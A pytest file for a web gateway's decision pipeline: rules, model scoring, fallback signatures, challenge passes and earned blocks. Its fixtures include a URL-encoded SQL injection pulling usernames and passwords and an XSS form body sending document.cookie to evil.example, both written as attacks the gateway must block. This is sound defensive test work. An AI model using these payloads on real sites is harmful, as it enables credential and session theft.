"""The pipeline: build() from config (every problem at once), synchronous rule verdicts, the model path, passes, observers."""

from __future__ import annotations

import dataclasses
import inspect
import re
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from gateway import config as configmod
from gateway import pipeline as pipeline_mod
from gateway.config import Config, ConfigError
from gateway.features import Features
from gateway.pipeline import NO_MODEL, Pipeline, build, check
from gateway.policy import Policy
from gateway.verdict import Action, LocalResponse, ScoreRequest, Source, Verdict
from tests.conftest import make_features

ROOT = Path(__file__).resolve().parents[2]
KEY = {"id": "k1", "secret": "s" * 40}


def cfg_of(**extra: Any) -> Config:
    # the chain around the model and the fallback rules, without the payload detectors in front of them
    # (tests/gateway/test_payload.py tests those, and the pipeline with them)
    raw: dict[str, Any] = {"backends": {"app": {"servers": ["http://127.0.0.1:9"]}, "api": {"servers": ["http://127.0.0.1:10"]}},
                           "payload": {"enabled": False}}
    raw.update(extra)
    return configmod.validate(raw, str(ROOT / "clefgate.yaml"))


def rules_file(tmp_path: Path, text: str) -> str:
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    return str(path)


class FakeScorer:
    """A ScoreStage: fixed probabilities through the real policy; records what it was asked."""

    def __init__(self, policy: Policy, bad: float = 0.0, attack: float = 0.0) -> None:
        self.policy = policy
        self.bad, self.attack = bad, attack
        self.seen: list[tuple[Features, ScoreRequest]] = []

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        self.seen.append((features, request))
        probs = {"class": {"human": 1 - self.bad - self.attack, "good_bot": 0.0, "bad_bot": self.bad, "attack": self.attack}}
        return self.policy.verdict(features, probs, request)


def test_no_rules_forwards_everything() -> None:
    p = build(cfg_of())
    v = p.decide(make_features())
    assert v is NO_MODEL and isinstance(p, Pipeline)
    assert p.body_prefix_bytes == 0 and "no rules" in p.description


def test_shipped_rules_decide_synchronously() -> None:
    p = build(cfg_of(rules={"files": ["rules/default.yaml"]}, challenge={"keys": [KEY]}))
    blocked = p.decide(make_features(target="/.env"))
    assert isinstance(blocked, Verdict) and blocked.action is Action.BLOCK  # a Verdict, not an awaitable
    page = p.pages.challenge(Verdict(Action.CHALLENGE, Source.RULE, "r", difficulty=4), make_features())  # type: ignore[union-attr]
    assert page.status == 403
    assert "41 rules from 7 file(s)" in p.description


async def test_the_model_path_is_awaited_with_client_stats_and_route_policy(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}, challenge={"keys": [KEY]},
                 routes=[{"path_prefix": "/checkout", "backend": "api", "policy": "checkout"}, {"path_prefix": "/", "backend": "app"}],
                 policy={"routes": {"checkout": {"challenge_risk": 0.2}}})
    p = build(cfg, partial(FakeScorer, bad=0.3))
    scorer = p.scorer
    assert isinstance(scorer, FakeScorer) and scorer.policy is p.policy  # one Policy: the pipeline's, handed to its model stage
    assert p.body_prefix_bytes == max(cfg.limits.body_prefix_bytes, cfg.challenge.keep_form_bytes)  # the policy can challenge
    p.state.record(p.state.key(make_features()), "/a", 404)  # type: ignore[union-attr]  # this client: address + browser
    pending = p.decide(make_features(target="/checkout/pay"))
    assert inspect.isawaitable(pending)
    v = await pending
    assert v.action is Action.CHALLENGE and v.policy == "checkout"
    features, request = scorer.seen[-1]
    assert request.rule == "everything" and request.policy == "checkout"
    assert features.client is not None and features.client.requests == 1 and features.client.error_ratio == 1.0
    forwarded = await p.decide(make_features(target="/shop"))  # type: ignore[misc]
    assert forwarded.action is Action.FORWARD and scorer.seen[-1][1].policy is None


def test_the_chain_is_one_ordered_tuple_of_named_stages(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - path: /x\n    action: block\n")]}, payload={"enabled": True},
                 challenge={"keys": [KEY]})
    p = build(cfg, FakeScorer)
    assert [s.name for s in p.stages] == ["rules", "payload", "default", "model"]
    assert p.stage("rules") is p.stages[0] and p.scorer is not None and p.policy is not None
    with pytest.raises(KeyError):
        p.stage("overrides")
    # a part added to a built pipeline (the console's overrides, by the runtime) is compiled into a new chain, first
    held = Verdict(Action.FORWARD, Source.RULE, "allowed in the console", rule="console-allow")

    class Allow:
        def match(self, features: Features) -> Verdict | None:
            return held if features.path == "/x" else None

    overridden = dataclasses.replace(p, overrides=Allow())
    assert [s.name for s in overridden.stages] == ["overrides", "rules", "payload", "default", "model"]
    assert overridden.decide(make_features(target="/x")) is held
    assert p.decide(make_features(target="/x")).action is Action.BLOCK  # type: ignore[union-attr]  # the built one is unchanged
    assert [s.name for s in Pipeline().stages] == ["default", "model"] and Pipeline().decide(make_features()).action is Action.FORWARD  # type: ignore[union-attr]


def test_a_replaced_pipeline_is_freed_at_once(tmp_path: Path) -> None:
    """The stages hold the pipeline's parts, never the pipeline: an old one goes when its last reference does, not at
    the cycle collector's next pass."""
    import gc
    import weakref

    cfg = cfg_of(rules={**SHIPPED_WITH_FALLBACK, "default": "challenge"}, challenge={"keys": [KEY]}, payload={"enabled": True})
    p = build(cfg, CachedScorer)
    gone = weakref.ref(p)
    gc.disable()
    try:
        del p
        assert gone() is None
    finally:
        gc.enable()


async def test_each_stage_answers_a_verdict_a_score_request_or_none(tmp_path: Path) -> None:
    rules = rules_file(tmp_path, "rules:\n  - name: blocked\n    path: /x\n    action: block\n  - name: scored\n    path: /s\n    action: score\n")
    p = build(cfg_of(rules={"files": [rules]}, challenge={"keys": [KEY]}, payload={"enabled": True}), partial(FakeScorer, bad=0.7))
    run = {s.name: s.run for s in p.stages}
    assert isinstance(run["rules"](make_features(target="/x"), None), Verdict)
    asked = run["rules"](make_features(target="/s"), None)
    assert isinstance(asked, ScoreRequest) and asked.rule == "scored"
    assert run["rules"](make_features(target="/other"), None) is None
    assert run["payload"](make_features(target="/s"), asked) is None
    hit = run["payload"](make_features(target=SQLI), asked)
    assert isinstance(hit, Verdict) and hit.source is Source.DETECTOR
    assert run["default"](make_features(target="/s"), asked) is None  # a rule asked for the model: the default stays out of it
    assert run["default"](make_features(target="/other"), None) is p.default
    scored = run["model"](make_features(target="/s"), asked)
    assert inspect.isawaitable(scored)
    assert (await scored).action is Action.CHALLENGE


class CachingFakeScorer(FakeScorer):
    """A FakeScorer that also answers requests it has seen synchronously (``decide_cached``)."""

    def __init__(self, policy: Policy, bad: float = 0.0, attack: float = 0.0) -> None:
        super().__init__(policy, bad, attack)
        self.known: dict[str, Verdict] = {}
        self.asked: list[tuple[ScoreRequest, Any]] = []

    def decide_cached(self, features: Features, request: ScoreRequest, client: Any) -> Verdict | None:
        self.asked.append((request, client))
        return self.known.get(features.path)

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        verdict = await super().decide(features, request)
        self.known[features.path] = verdict
        return verdict


async def test_a_request_the_cache_knows_is_decided_synchronously(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}, challenge={"keys": [KEY]},
                 routes=[{"path_prefix": "/checkout", "backend": "api", "policy": "checkout"}, {"path_prefix": "/", "backend": "app"}],
                 policy={"routes": {"checkout": {"challenge_risk": 0.2}}})
    p = build(cfg, partial(CachingFakeScorer, bad=0.3))
    scorer = p.scorer
    assert isinstance(scorer, CachingFakeScorer)
    p.state.record(p.state.key(make_features()), "/a", 404)  # type: ignore[union-attr]  # this client: address + browser
    first = p.decide(make_features(target="/checkout/pay"))
    assert inspect.isawaitable(first)
    assert (await first).action is Action.CHALLENGE
    features, _ = scorer.seen[-1]
    assert features.client is not None and features.client.requests == 1
    again = p.decide(make_features(target="/checkout/pay"))
    assert isinstance(again, Verdict) and again.action is Action.CHALLENGE and again.policy == "checkout"
    request, client = scorer.asked[-1]
    assert request.rule == "everything" and request.policy == "checkout"  # the route policy is applied before the lookup
    assert client is not None and client.requests == 1 and client.error_ratio == 1.0  # and the client's window read
    assert len(scorer.seen) == 1
    # a pass cookie still turns a cached challenge into a forward
    browser = make_features()
    f = make_features(target="/checkout/pay", headers=[*browser.headers, ("Cookie", _pass_cookie(p, browser, 20))])
    passed = p.decide(f)
    assert isinstance(passed, Verdict) and passed.action is Action.FORWARD


@pytest.mark.parametrize("mode,action", [("allow", Action.FORWARD), ("block", Action.BLOCK), ("challenge", Action.CHALLENGE)])
def test_rules_default_is_named_and_counted(tmp_path: Path, mode: str, action: Action) -> None:
    from gateway.pipeline import DEFAULTS

    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - path: /x\n    action: block\n")], "default": mode},
                 challenge={"keys": [KEY]})
    before = DEFAULTS.get(action.value)
    v = build(cfg).decide(make_features(target="/y"))
    assert isinstance(v, Verdict) and v.action is action and v.source is Source.DEFAULT
    assert DEFAULTS.get(action.value) == before + 1


def test_every_problem_in_one_error(tmp_path: Path) -> None:
    bad = rules_file(tmp_path, "rules:\n  - name: r\n    path: /x\n    action: route\n    backend: nowhere\n"
                               "  - name: c\n    path: /y\n    action: challenge\n")
    cfg = cfg_of(rules={"files": [bad]}, routes=[{"path_prefix": "/", "backend": "app", "policy": "shop"}],
                 policy={"difficulty_min": 25, "difficulty_max": 20})
    with pytest.raises(ConfigError) as err:
        build(cfg)
    assert err.value.problems == [
        "rules.yaml:r: backend: unknown backend 'nowhere' (known: api, app)",
        "policy: difficulty_min (25) is above difficulty_max (20)",
        "routes[0].policy: unknown policy 'shop' (known under policy.routes: none)",
        "challenge.keys: required because rule(s) c challenge; set challenge.keys: [{id: k1, secret: env:CLEFGATE_CHALLENGE_KEY}] "
        "(or challenge.dev_generate_secret: true for development only)",
    ]
    assert check(cfg) == err.value.problems


def test_rule_problems_alone_name_the_rule_file_as_source(tmp_path: Path) -> None:
    bad = rules_file(tmp_path, "rules:\n  - name: r\n    user_agent: '('\n    action: block\n")
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={"files": [bad]}))
    assert err.value.source == bad
    assert err.value.problems == ["rules.yaml:r: user_agent: bad regex '(': missing ), unterminated subpattern at position 0"]


def test_a_model_that_can_challenge_needs_a_key() -> None:
    with pytest.raises(ConfigError, match="the model policy can challenge"):
        build(cfg_of(), FakeScorer)


def _pass_cookie(p: Pipeline, f: Features, difficulty: int = 4) -> str:
    svc = p.passes
    assert svc is not None
    html = svc.challenge(Verdict(Action.CHALLENGE, Source.RULE, "r", difficulty=difficulty), f).body.decode()
    token = re.search(r'name="token" value="([^"]+)"', html).group(1)  # type: ignore[union-attr]
    nonce = re.search(r'data-nonce="([^"]+)"', html).group(1)  # type: ignore[union-attr]
    from gateway.challenge import solve
    body = urlencode({"token": token, "counter": solve(nonce, difficulty)}).encode()
    resp = p.local.handle(make_features("POST", "/.clefgate/verify", list(f.headers), client_ip=f.client_ip, body=body), body)  # type: ignore[union-attr]
    assert isinstance(resp, LocalResponse) and resp.status == 303
    return next(v for k, v in resp.headers if k == "Set-Cookie").split(";", 1)[0]


async def test_a_pass_turns_rule_and_model_challenges_into_forwards(tmp_path: Path) -> None:
    rules = rules_file(tmp_path, "rules:\n  - name: gate\n    path: /gated\n    action: challenge\n    difficulty: 4\n"
                                 "  - name: rest\n    action: score\n")
    cfg = cfg_of(rules={"files": [rules]}, challenge={"keys": [KEY]}, policy={"difficulty_min": 4, "difficulty_max": 4})
    p = build(cfg, partial(FakeScorer, bad=0.7))
    f = make_features(target="/gated")
    assert p.decide(f).action is Action.CHALLENGE  # type: ignore[union-attr]
    cookie = _pass_cookie(p, f)
    headers = [*f.headers, ("Cookie", cookie)]
    gated = p.decide(make_features(target="/gated", headers=headers))
    assert isinstance(gated, Verdict) and gated.action is Action.FORWARD and gated.rule == "gate"
    scored = await p.decide(make_features(target="/other", headers=headers))  # type: ignore[misc]
    assert scored.action is Action.FORWARD and "challenge passed" in scored.reason and scored.source is Source.MODEL
    # another client presenting the same cookie is challenged
    stolen = p.decide(make_features(target="/gated", headers=headers, client_ip="198.51.100.1"))
    assert stolen.action is Action.CHALLENGE  # type: ignore[union-attr]


def test_observers_feed_windows_but_never_with_the_gateways_own_pages() -> None:
    p = build(cfg_of())
    state = p.state
    assert state is not None
    f = make_features(target="/a")
    p.observe(f, Verdict(Action.FORWARD, Source.RULE, "r"), 404)
    p.observe(f, Verdict(Action.BLOCK, Source.RULE, "r"), 403)                 # our block page
    p.observe(f, Verdict(Action.CHALLENGE, Source.MODEL, "m"), 403)            # our challenge page
    p.observe(make_features(target="/.clefgate/verify"), Verdict(Action.FORWARD, Source.DEFAULT, "local"), 403)
    p.observe(f, Verdict(Action.FORWARD, Source.SHADOW, "s", shadow_action=Action.BLOCK), 200)  # shadow: the origin answered
    assert state.windows.counts(state.key(f)) == (2, 1)


async def test_reload_keeps_client_state_nonces_and_dev_key(tmp_path: Path) -> None:
    rules = rules_file(tmp_path, "rules:\n  - name: gate\n    path: /gated\n    action: challenge\n    difficulty: 4\n")
    cfg = cfg_of(rules={"files": [rules]}, challenge={"dev_generate_secret": True})
    first = build(cfg)
    first.state.record("1.2.3.4", "/", 200)  # type: ignore[union-attr]
    cookie = _pass_cookie(first, make_features(target="/gated"))
    second = build(cfg, previous=first)
    assert second.state is first.state and second.passes.nonces is first.passes.nonces  # type: ignore[union-attr]
    honoured = second.decide(make_features(target="/gated", headers=[("Host", "shop.example"), ("User-Agent", make_features().user_agent),
                                                                      ("Cookie", cookie)]))
    assert honoured.action is Action.FORWARD  # type: ignore[union-attr]
    # a new max_nonces applies to the carried-over nonces; the running pipeline's store keeps its own limit
    resized = build(cfg_of(rules={"files": [rules]}, challenge={"dev_generate_secret": True, "max_nonces": 7}), previous=first)
    assert resized.passes.nonces.max_entries == 7 and len(resized.passes.nonces) == len(first.passes.nonces)  # type: ignore[union-attr]
    assert first.passes.nonces.max_entries == cfg.challenge.max_nonces  # type: ignore[union-attr]
    await resized.close(successor=first)  # thrown away, as a rejected reload would be
    await second.start()
    await first.close(successor=second)
    changed = build(cfg_of(rules={"files": [rules]}, challenge={"dev_generate_secret": True}, clients={"window_s": 30}), previous=second)
    assert changed.state is not second.state
    await second.close(successor=changed)
    await changed.close()


def test_policy_for_route_matching() -> None:
    cfg = cfg_of(routes=[{"host": "shop.example", "path_prefix": "/checkout", "backend": "app", "policy": "strict"},
                         {"host": "*.example", "path_prefix": "/", "backend": "app", "policy": "loose"},
                         {"path_prefix": "/checkout/free", "backend": "app"}],
                 policy={"routes": {"strict": {}, "loose": {}}})
    p = build(cfg)

    def on(host: str, path: str) -> str | None:
        return p.policy_for(make_features(target=path, headers=[("Host", host)]))
    assert on("shop.example:443", "/checkout/pay") == "strict"
    assert on("blog.example", "/checkout/pay") == "loose"
    assert on("shop.example", "/checkout/free/x") is None  # the longest prefix wins, even without a policy
    assert on("other.test", "/x") is None
    assert on("other.test", "/checkout/free") is None


def test_a_request_is_scored_under_the_policy_of_the_route_that_picks_its_backend() -> None:
    from gateway.backends import BackendSet
    cfg = cfg_of(routes=[{"host": "*.example.com", "path_prefix": "/", "backend": "app", "policy": "loose"},
                         {"host": "shop.example.com", "path_prefix": "/", "backend": "api", "policy": "strict"},
                         {"path_prefix": "/checkout", "backend": "api", "policy": "strict"}],
                 policy={"routes": {"strict": {}, "loose": {}}})
    p, backends = build(cfg), BackendSet.build(cfg)
    for host, path, policy in [("shop.example.com", "/cart", "strict"),   # the exact host beats the wildcard, for both
                               ("x.test", "/checkoutlogs", None),         # a prefix matches whole segments, for both
                               ("x.test", "/checkout/pay", "strict"),
                               ("blog.example.com", "/", "loose")]:
        route = backends.route(host, path)
        assert p.policy_for(make_features(target=path, headers=[("Host", host)])) == policy == route.policy, (host, path)


class FailingScorer:
    """A ScoreStage whose model never answers: every request gets the policy's fallback."""

    def __init__(self, policy: Policy, mode: str = "forward") -> None:
        self.policy, self.mode = policy, mode

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        v = self.policy.fallback_verdict(features, request, self.mode)
        return Verdict(v.action, Source.FALLBACK, v.reason, backend=v.backend, difficulty=v.difficulty, policy=v.policy)


SHIPPED_WITH_FALLBACK = {"files": [str(ROOT / "rules" / "default.yaml")], "fallback_files": [str(ROOT / "rules" / "injections.yaml")]}
SQLI = "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"


async def test_fallback_rules_decide_only_what_the_model_could_not_score() -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
    down = build(cfg, FailingScorer)
    assert "fallback rules" in down.description
    v = await down.decide(make_features(target=SQLI))  # type: ignore[misc]
    assert v.action is Action.BLOCK and v.rule == "block-sql-injection" and "model unavailable" in v.reason
    clean = await down.decide(make_features(target="/search?q=walnut+desk"))  # type: ignore[misc]
    assert clean.action is Action.FORWARD and clean.source is Source.FALLBACK  # decider.fallback as configured
    up = build(cfg, partial(FakeScorer, attack=0.01))
    v = await up.decide(make_features(target=SQLI))  # type: ignore[misc]
    assert v.action is Action.FORWARD and v.source is Source.MODEL  # a model that finds it harmless is not overruled by them


class FailingAtOnceScorer(FailingScorer):
    """A FailingScorer that fails synchronously (``decide_cached``: the model run on the event loop failed)."""

    def decide_cached(self, features: Features, request: ScoreRequest, client: object) -> Verdict:
        v = self.policy.fallback_verdict(features, request, self.mode)
        return Verdict(v.action, Source.FALLBACK, v.reason, backend=v.backend, difficulty=v.difficulty, policy=v.policy)


def test_a_synchronous_fallback_is_decided_by_the_fallback_rules_as_an_awaited_one() -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
    down = build(cfg, FailingAtOnceScorer)
    v = down.decide(make_features(target=SQLI))
    assert isinstance(v, Verdict) and v.action is Action.BLOCK and v.rule == "block-sql-injection" and "model unavailable" in v.reason
    clean = down.decide(make_features(target="/search?q=walnut+desk"))
    assert isinstance(clean, Verdict) and clean.action is Action.FORWARD and clean.source is Source.FALLBACK


@pytest.mark.parametrize("mode", ["forward", "challenge", "rules-only"])
async def test_shadow_mode_and_rollout_hold_while_fallback_rules_stand_in_for_the_model(mode: str) -> None:
    for policy in ({"shadow": True}, {"rollout_percent": 0}):
        cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, policy=policy)
        down = build(cfg, partial(FailingScorer, mode=mode))
        v = await down.decide(make_features(target=SQLI))  # type: ignore[misc]
        assert v.action is Action.FORWARD and v.source is Source.SHADOW, (policy, mode, v)
        assert v.shadow_action is Action.BLOCK and v.rule == "block-sql-injection" and "model unavailable" in v.reason
    # enforced as before when the policy enforces
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
    v = await build(cfg, partial(FailingScorer, mode=mode)).decide(make_features(target=SQLI))  # type: ignore[misc]
    assert v.action is Action.BLOCK and v.shadow_action is None


class CachedScorer(FakeScorer):
    """A ScoreStage that knows every request already (the synchronous cache path)."""

    def decide_cached(self, features: Features, request: ScoreRequest, client: object) -> Verdict:
        probs = {"class": {"human": 1 - self.bad - self.attack, "good_bot": 0.0, "bad_bot": self.bad, "attack": self.attack}}
        return self.policy.verdict(features, probs, request, source=Source.CACHE)


@pytest.mark.parametrize("stage", [FakeScorer, CachedScorer])
async def test_a_fallback_rule_corroborates_a_model_that_leans_to_attack(stage: type[FakeScorer]) -> None:
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
    leaning = build(cfg, partial(stage, bad=0.2, attack=0.5))
    assert "P(attack)>=0.4 with a fallback rule" in leaning.description

    async def decided(p: Pipeline, target: str) -> Verdict:
        out = p.decide(make_features(target=target))
        return out if isinstance(out, Verdict) else await out

    v = await decided(leaning, SQLI)
    assert v.action is Action.BLOCK and v.rule == "block-sql-injection"
    assert v.source is (Source.CACHE if stage is CachedScorer else Source.MODEL)
    assert "P(attack)=0.50 >= 0.4 and fallback rule block-sql-injection matched" in v.reason
    assert (await decided(leaning, "/search?q=walnut+desk&sort=name%27)")).action is Action.CHALLENGE  # no signature: the model's verdict
    # no signature and no syntax an injection needs: P(attack) is not counted (policy.suspicion_needs_syntax)
    plain = await decided(leaning, "/search?q=walnut+desk")
    assert plain.action is Action.FORWARD and "no attack syntax in any value" in plain.reason, plain.reason
    unsure = build(cfg, partial(stage, bad=0.3, attack=0.35))
    assert (await decided(unsure, SQLI)).action is Action.CHALLENGE  # below the floor the signature is not consulted
    off = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]}, policy={"block_attack_corroborated": None})
    assert (await decided(build(off, partial(stage, bad=0.2, attack=0.5)), SQLI)).action is Action.CHALLENGE


# a person naming what a signature knows, among words, in a search box and a contact form; the same names used
MENTIONED = [make_features(target="/search?q=information_schema.tables+best+practice"),
             make_features("POST", "/contact", [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")],
                           body=b"summary=what+is+document.cookie&phone=coordinates")]
USED = [make_features(target="/search?q=information_schema.tables"),
        make_features("POST", "/contact", [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")],
                      body=b"summary=%3Cscript%3Enew+Image().src%3D'//evil.example/'%2Bdocument.cookie%3C/script%3E&phone=1")]


@pytest.mark.parametrize("mode", ["rules-only", "forward"])
async def test_fallback_rules_read_their_signatures_value_by_value(mode: str) -> None:
    # without the payload detectors in front (cfg_of): the fallback rules alone judge, and a mention is not evidence
    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
    down = build(cfg, partial(FailingScorer, mode=mode))
    for f in MENTIONED:
        v = await down.decide(f)  # type: ignore[misc]
        assert v.action is Action.FORWARD and v.source is Source.FALLBACK, (f.target, v)
    for f in USED:
        v = await down.decide(f)  # type: ignore[misc]
        assert v.action is Action.BLOCK and v.rule in ("block-sql-injection", "block-xss") and "model unavailable" in v.reason, (f.target, v)
    # a model leaning to attack is corroborated by a name used, not by a name mentioned
    leaning = build(cfg, partial(FakeScorer, bad=0.2, attack=0.5))
    # a table's name among words holds no syntax and is forwarded; a script's property counts as XSS syntax: challenged
    for f, action in zip(MENTIONED, (Action.FORWARD, Action.CHALLENGE), strict=True):
        assert (await leaning.decide(f)).action is action  # type: ignore[misc]
    for f in USED:
        assert (await leaning.decide(f)).action is Action.BLOCK  # type: ignore[misc]


def test_fallback_rules_apply_without_a_model_and_overrides_reach_both_sets() -> None:
    cfg = cfg_of(rules={**SHIPPED_WITH_FALLBACK, "disabled": ["block-xss", "block-wordpress-probes"]}, challenge={"keys": [KEY]})
    p = build(cfg)
    v = p.decide(make_features(target=SQLI))
    assert isinstance(v, Verdict) and v.action is Action.BLOCK and v.rule == "block-sql-injection"
    assert p.decide(make_features(target="/search?q=%3Cscript%3Ealert(1)%3C/script%3E")).action is Action.FORWARD  # type: ignore[union-attr]
    assert p.decide(make_features(target="/wp-login.php")).action is Action.FORWARD  # type: ignore[union-attr]
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={**SHIPPED_WITH_FALLBACK, "disabled": ["block-sql-injektion"]}, challenge={"keys": [KEY]}))
    assert any("unknown rule 'block-sql-injektion'" in p for p in err.value.problems)


def test_a_bad_fallback_rule_file_is_reported_like_any_rule_file(tmp_path: Path) -> None:
    bad = rules_file(tmp_path, "rules:\n  - name: x\n    inputs: ['(?<=a)b']\n    action: block\n")
    with pytest.raises(ConfigError) as err:
        build(cfg_of(rules={"files": [str(ROOT / "rules" / "default.yaml")], "fallback_files": [bad]}, challenge={"keys": [KEY]}))
    assert err.value.problems == ["rules.yaml:x: inputs: bad regex '(?<=a)b': invalid perl operator: (?<= "
                                  "(inputs patterns are RE2: no lookaround or backreferences)"]


# ----------------------------------------------------------------------------- clients that earned a block


class PayloadScorer(FakeScorer):
    """Attack for a request whose query holds a quote, a suspicious client (challenged) otherwise."""

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        self.seen.append((features, request))
        attack = 0.99 if "%27" in features.query or "'" in features.query else 0.0
        probs = {"class": {"human": 0.3 * (1 - attack), "good_bot": 0.0, "bad_bot": 0.7 * (1 - attack), "attack": attack},
                 "attack_kind": {"sqli": 1.0}}
        return self.policy.verdict(features, probs, request)


class Ticking:
    def __init__(self) -> None:
        self.t = 1000.0

    def __call__(self) -> float:
        return self.t


def browser_number(i: int, ip: str = "198.51.100.200", target: str = "/shop") -> Features:
    """The i-th of many people behind one address: each its own browser build and language."""
    ua = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{100 + i % 40}.0.0.0 Safari/537.36"
    return make_features(target=target, client_ip=ip, headers=[("Host", "shop.example"), ("User-Agent", ua), ("Accept", "text/html"),
                                                                ("Accept-Language", f"en-GB,en;q=0.{1 + i // 40}")])


async def decided(p: Pipeline, f: Features, status: int | None = None) -> Verdict:
    v = p.decide(f)
    verdict = v if isinstance(v, Verdict) else await v
    p.observe(f, verdict, status or (200 if verdict.action is Action.FORWARD else 403))
    return verdict


async def test_one_attacker_behind_a_shared_address_never_gets_the_others_blocked(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}, challenge={"keys": [KEY]})
    p = build(cfg, PayloadScorer)
    assert p.state is not None
    attack = await decided(p, browser_number(0, target="/search?q=1%27%20union%20select%201--"))
    assert attack.action is Action.BLOCK and "payload in query:q" in attack.reason
    # all 200 come back with a request that is only suspicious: the attacker is blocked on its evidence, the 199 challenged
    outcomes = [await decided(p, browser_number(i)) for i in range(200)]
    assert outcomes[0].action is Action.BLOCK and outcomes[0].source is Source.CLIENT
    assert "showed attack evidence" in outcomes[0].reason and "sqli in query:q" in outcomes[0].reason
    assert [v.action for v in outcomes[1:]] == [Action.CHALLENGE] * 199
    assert len({p.state.key(browser_number(i)) for i in range(200)}) == 200
    assert p.state.addresses.shared == 1  # the address is recognised as shared


async def test_a_client_that_ignores_five_challenges_in_a_minute_is_blocked(tmp_path: Path) -> None:
    cfg = cfg_of(rules={"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}, challenge={"keys": [KEY]})
    p = build(cfg, PayloadScorer)
    assert p.state is not None
    clock = p.state.history.clock = Ticking()
    bot, neighbour = browser_number(1), browser_number(2)
    from gateway import policy as policymod

    before = policymod.EARNED.get("ignored_challenges", "enforce")
    seen = []
    for _ in range(6):
        seen.append(await decided(p, bot))
        clock.t += 2.0
    assert [v.action for v in seen] == [Action.CHALLENGE] * 5 + [Action.BLOCK]
    assert seen[-1].source is Source.CLIENT and "challenged 5 times in 60 s without solving one" in seen[-1].reason
    assert policymod.EARNED.get("ignored_challenges", "enforce") == before + 1
    assert (await decided(p, neighbour)).action is Action.CHALLENGE  # the same address, another browser
    # a page's fetches that were challenged do not count, and neither do requests less than a second apart
    fetches = make_features(target="/api/cart", client_ip=neighbour.client_ip,
                            headers=[*neighbour.headers, ("Sec-Fetch-Dest", "empty"), ("Sec-Fetch-Mode", "cors")])
    for _ in range(8):
        await decided(p, fetches)
    assert p.state.history.unsolved(p.state.key(fetches), 60) == 0
    # a minute later, the ignored challenges have aged out; solving one forgives them at once
    clock.t += 61
    assert (await decided(p, bot)).action is Action.CHALLENGE
    p.state.passed(p.state.key(bot))
    assert p.state.history.unsolved(p.state.key(bot), 60) == 0


async def test_a_client_rotating_its_browser_is_caught_at_its_address(tmp_path: Path) -> None:
    rules = {"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}
    p = build(cfg_of(rules=rules, challenge={"keys": [KEY]}), PayloadScorer)
    assert p.state is not None
    clock = p.state.history.clock = Ticking()
    seen = []
    for i in range(21):  # a new fingerprint each time: no one client ever ignores five challenges
        seen.append(await decided(p, browser_number(i)))
        clock.t += 2.0
    assert [v.action for v in seen] == [Action.CHALLENGE] * 20 + [Action.BLOCK]
    assert seen[-1].source is Source.CLIENT and "this address was challenged 20 times in 60 s" in seen[-1].reason
    # somebody at the address solves a challenge: the address is not ignoring them, so nobody there is blocked for it
    p.state.passed(p.state.key(browser_number(3)))
    assert (await decided(p, browser_number(30))).action is Action.CHALLENGE
    off = build(cfg_of(rules=rules, challenge={"keys": [KEY]}, policy={"block_ignored_challenges_per_address": 0}), PayloadScorer)
    assert off.state is not None
    off.state.history.clock = clock
    rotated = []
    for i in range(40, 61):
        rotated.append((await decided(off, browser_number(i))).action)
        clock.t += 2.0
    assert rotated == [Action.CHALLENGE] * 21


async def test_earned_blocks_respect_shadow_mode_and_can_be_turned_off(tmp_path: Path) -> None:
    rules = {"files": [rules_file(tmp_path, "rules:\n  - name: everything\n    action: score\n")]}
    off = cfg_of(rules=rules, challenge={"keys": [KEY]}, policy={"block_ignored_challenges": 0, "block_after_attack_s": 0})
    p = build(off, PayloadScorer)
    await decided(p, browser_number(0, target="/search?q=%27--"))
    assert (await decided(p, browser_number(0))).action is Action.CHALLENGE
    shadow = cfg_of(rules=rules, challenge={"keys": [KEY]}, policy={"shadow": True})
    p = build(shadow, PayloadScorer)
    first = await decided(p, browser_number(0, target="/search?q=%27--"))
    assert first.action is Action.FORWARD and first.shadow_action is Action.BLOCK
    assert (await decided(p, browser_number(0))).action is Action.FORWARD


class UnfamiliarScorer(FakeScorer):
    """A two-question model sure of an attack on a payload it finds unfamiliar (3x its familiarity threshold)."""

    async def decide(self, features: Features, request: ScoreRequest) -> Verdict:
        self.seen.append((features, request))
        probs = {"payload": {"benign": 0.01, "attack": 0.99}, "client": {"human": 0.9, "good_bot": 0.0, "bad_bot": 0.1},
                 "familiarity": {"familiar": 0.25, "unfamiliar": 0.75}}
        return self.policy.verdict(features, probs, request)


async def test_the_model_abstains_only_where_no_detector_or_rule_witnessed_the_attack() -> None:
    async def decided(p: Pipeline, target: str) -> Verdict:
        out = p.decide(make_features(target=target))
        return out if isinstance(out, Verdict) else await out

